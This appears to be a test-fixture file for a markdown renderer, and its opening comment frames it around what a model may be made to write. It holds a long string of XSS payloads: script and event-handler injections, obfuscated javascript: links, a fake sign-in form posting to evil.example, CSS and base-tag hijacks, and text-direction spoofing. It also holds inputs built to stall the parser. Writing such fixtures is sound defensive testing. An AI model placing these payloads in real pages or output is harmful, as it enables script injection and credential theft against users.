/** What a model may be made to write so that a page runs, loads, submits or hides something. */
export const HOSTILE_MARKDOWN = `<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2">

<svg onload="window.hacked = 3"><animate onbegin="window.hacked = 3" attributeName=x></svg>

<iframe srcdoc="<script>parent.hacked = 4</script>"></iframe><object data="javascript:1"></object><embed src="/">

<style>body { display: none }</style> <link rel=stylesheet href="//evil.example/x.css"> <base href="//evil.example/">

<form action="https://evil.example/"><input name=password><button>Sign in</button></form>

<div id="app" style="position:fixed;inset:0">covered</div> <!-- <b>comment</b> --> <details ontoggle=alert(1) open>

<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>

[a](javascript:window.hacked=5) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1)) [d](&#x6A;avascript:alert(1))
[e](java&Tab;script:alert(1)) [f](<java
script:alert(1)>) [g](data:text/html,<script>alert(1)</script>) [h](vbscript:msgbox) [i](\\u006aavascript:alert(1))
[j](file:///etc/passwd) [k](//evil.example) [l](/sign-out) [m](blob:https://x/1) [n](https://evil.example/" onclick="alert(1))
[o](  javascript:alert(1)) [p][ref] ![q](javascript:alert(1)) ![r](data:image/svg+xml,<svg/onload=alert(1)>) ![s](http://evil.example/pixel.png)

[ref]: javascript:alert(1)

<javascript:alert(1)> <data:text/html,x> <https://good.example/>

[https://bank.example/login](https://evil.example/) [bank.example](https://bank.example@evil.example/) [invoice\u202egpj.exe](https://files.example/)

[^constructor]: A note. [^__proto__]: Another.

Text[^constructor] and[^app].

\`\`\`html"onmouseover="alert(1)
</code></pre><script>window.hacked = 6</script>
\`\`\`

\`\`\`\u202egnp
const admin = "\u202e" // hidden
\`\`\`

$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\includegraphics[height=9em]{https://evil.example/x.png}$

$\\htmlData{a=b}{x}$ $\\htmlId{app}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\htmlClass{hidden}{x}$

$\\rule{100000em}{100000em}$ $\\kern{99999em}x$ $\\raisebox{-99999em}{x}$

$\\def\\a{\\a\\a}\\a$ $\\text{<img src=x onerror=alert(1)>}$ $\\unknown{$

The end of it.
`

/** What could keep the page busy for seconds. */
export const SLOW_MARKDOWN: Record<string, string> = {
  'quotes in quotes': '> '.repeat(10_000) + 'deep',
  'lists in lists': Array.from({ length: 600 }, (_, depth) => `${'  '.repeat(depth)}- x`).join(
    '\n'
  ),
  'list marks on one line': '- '.repeat(10_000),
  'open brackets': '['.repeat(100_000),
  'brackets in brackets': '['.repeat(8_000) + ']'.repeat(8_000),
  'open images': '![a]('.repeat(20_000),
  'asterisks': '*a '.repeat(33_000),
  'mixed emphasis': '*a_ **b __c '.repeat(9_000),
  'backticks of every length': Array.from({ length: 400 }, (_, at) => '`'.repeat(at)).join(' '),
  'dollars': '$a '.repeat(33_000),
  'brackets of formulas': '\\(a '.repeat(25_000),
  'a table of 20,000 cells': `|${'a|'.repeat(20)}\n|${'-|'.repeat(20)}\n${`|${'x|'.repeat(20)}\n`.repeat(1_000)}`,
  'a table of 3,000 columns': `|${'a|'.repeat(3_000)}\n|${'-|'.repeat(3_000)}\n|${'x|'.repeat(3_000)}`,
  'addresses': 'www.a.'.repeat(16_000) + ' ' + 'a.'.repeat(25_000) + '@',
  'one word': 'a'.repeat(100_000),
  'one word of code': `\`\`\`js\n${'a'.repeat(100_000)}\n\`\`\``,
  'definitions': Array.from({ length: 5_000 }, (_, at) => `[a${at}]: https://x.example\n`).join(
    '\n'
  ),
  'footnotes': Array.from({ length: 3_000 }, (_, at) => `x[^${at}]\n\n[^${at}]: y\n`).join('\n'),
  'formulas': '$x^2$ '.repeat(3_000),
  'half a megabyte': 'Some **bold** words, `code` and a [link](https://x.example).\n\n'.repeat(
    8_000
  ),
}
